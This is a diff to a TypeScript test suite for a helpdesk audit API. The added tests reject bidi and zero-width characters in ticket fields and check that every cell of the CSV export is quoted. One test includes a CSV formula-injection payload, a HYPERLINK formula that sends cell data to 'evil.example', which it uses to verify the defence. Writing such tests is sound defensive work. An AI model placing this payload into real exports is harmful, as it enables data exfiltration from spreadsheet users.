@@ -158,6 +158,22 @@ describe('verification', () => {
     expect((await res.json()).verification).toBe('other: Video call; checked staff ID card');
   });
 
+  it('refuses a ticket or an "another way" description with a bidi control or a zero-width character (400 invalid-input), opening nothing', async () => {
+    const before = await stack.db.selectFrom('helpdesk_cases').select('id').execute();
+    for (const body of [
+      { ticket: 'INC-2006', otherMethod: 'Called back on the \u202edesk phone' },
+      { ticket: 'INC-2006', otherMethod: 'Video\u200b call, checked staff ID' },
+      { ticket: 'INC-2006', otherMethod: '\u2066Video call, checked staff ID\u2069' },
+      { ticket: 'INC-\u200b2006', otherMethod: 'Video call, checked staff ID' },
+      { ticket: 'INC-2006\u200e', code: '123456' },
+    ]) {
+      const res = await asAgent('/api/helpdesk/users/hanako/cases', jsonInit('POST', body));
+      expect(res.status, JSON.stringify(body)).toBe(400);
+      expect((await res.json()).code).toBe('invalid-input');
+    }
+    expect(await stack.db.selectFrom('helpdesk_cases').select('id').execute()).toEqual(before);
+  });
+
   it('refuses a missing ticket and malformed codes', async () => {
     for (const body of [{ code: '123456' }, { ticket: 'INC-1', code: '12345' }, { ticket: 'INC-1', code: 'abcdef' }, { ticket: 'x', code: '123456' }]) {
       const res = await asAgent('/api/helpdesk/users/hanako/cases', jsonInit('POST', body));
@@ -387,9 +403,26 @@ describe('audit view', () => {
     // text() drops the byte-order mark (checked on the bytes below).
     const csv = await res.text();
     expect(csv.split('\r\n')[0]).toBe(
-      'Entry,When (UTC),Done by,Done by (AWS user name),Person (AWS user name),Action,Access key,Key name,MFA device,Ticket,Verified by,Result,Why it failed,Request ID',
+      '"Entry","When (UTC)","Done by","Done by (AWS user name)","Person (AWS user name)","Action","Access key","Key name","MFA device","Ticket","Verified by","Result","Why it failed","Request ID"',
     );
-    expect(csv).toContain('INC-3001');
+    expect(csv).toContain('"INC-3001"');
+    // Every cell of every line is in quotes: nothing outside them but the separators.
+    expect(csv.replace(/"(?:[^"]|"")*"/g, '')).toMatch(/^[,\r\n]*$/);
+  });
+
+  it('quotes every cell, so a description like a;=HYPERLINK(…) stays one cell where the list separator is ";"', async () => {
+    const otherMethod = 'a;=HYPERLINK("http://evil.example/?"&A1;"click")';
+    const opened = await asAgent('/api/helpdesk/users/hanako/cases', jsonInit('POST', { ticket: 'INC-CSV-1', otherMethod }));
+    expect(opened.status).toBe(201);
+    const csv = await (await asAgent('/api/helpdesk/audit?ticket=INC-CSV-1&format=csv')).text();
+    expect(csv.replace(/"(?:[^"]|"")*"/g, '')).toMatch(/^[,\r\n]*$/);
+    // The description sits inside the one quoted cell of the "verified by" column.
+    const line = csv.split('\r\n').find((l) => l.includes(otherMethod.replace(/"/g, '""')));
+    expect(line).toBeDefined();
+    const cells = line!.match(/"(?:[^"]|"")*"/g)!.map((c) => c.slice(1, -1).replace(/""/g, '"'));
+    expect(cells).toHaveLength(14);
+    expect(cells[10]).toContain(otherMethod);
+    expect(cells[9]).toBe('INC-CSV-1');
   });
 
   it('is in the agent’s language and time zone, starts with a byte-order mark, and says why an attempt failed', async () => {
@@ -407,7 +440,17 @@ describe('audit view', () => {
     expect(res.status).toBe(200);
     const bytes = Buffer.from(await res.arrayBuffer());
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
-    const [header, row] = bytes.toString('utf8').slice(1).split('\r\n').map((line) => line.split(','));
+    const [header, row] = bytes
+      .toString('utf8')
+      .slice(1)
+      .split('\r\n')
+      .map((line) => (line ? line.split(',') : []))
+      .map((cells) =>
+        cells.map((cell) => {
+          expect(cell).toMatch(/^"(?:[^"]|"")*"$/);
+          return cell.slice(1, -1).replace(/""/g, '"');
+        }),
+      );
     expect(header).toEqual(['記録番号', '日時（Asia/Tokyo）', '操作者', '操作者（AWS ユーザー名）', '利用者（AWS ユーザー名）', '操作', 'アクセスキー', 'キーの名前', 'MFA デバイス', 'チケット', '確認方法', '結果', '失敗の理由', 'リクエスト ID']);
     // Tokyo is UTC+9 all year.
     const tokyo = new Date(Date.parse(latest.at) + 9 * 3600_000).toISOString().slice(0, 19).replace('T', ' ');
